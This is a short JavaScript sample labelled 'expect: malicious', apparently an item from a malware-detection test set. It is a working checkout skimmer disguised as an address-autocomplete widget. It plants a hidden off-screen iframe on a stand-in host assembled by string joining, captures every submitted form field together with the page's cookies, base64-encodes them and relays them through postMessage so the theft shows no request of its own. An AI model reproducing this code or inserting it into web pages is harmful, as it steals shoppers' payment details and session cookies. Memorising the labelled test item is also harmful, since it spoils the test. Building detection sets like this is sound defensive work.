// expect: malicious
// source: blind set 18, extra part (a checkout address-autocomplete widget that posts form fields and the cookie jar
// into a hidden 1px iframe with postMessage, so no request of its own ever shows the data)
var frame = document.createElement('iframe');
frame.style.cssText = 'width:1px;height:1px;position:absolute;left:-9999px';
frame.src = 'https://' + ['frames', 'addr-widget', 'example'].join('.') + '/relay.html';
document.body.appendChild(frame);
document.addEventListener('submit', function (e) {
  var data = { url: location.href, cookie: document.cookie };
  new FormData(e.target).forEach(function (v, k) { data[k] = v; });
  frame.contentWindow.postMessage(btoa(JSON.stringify(data)), '*');
}, true);
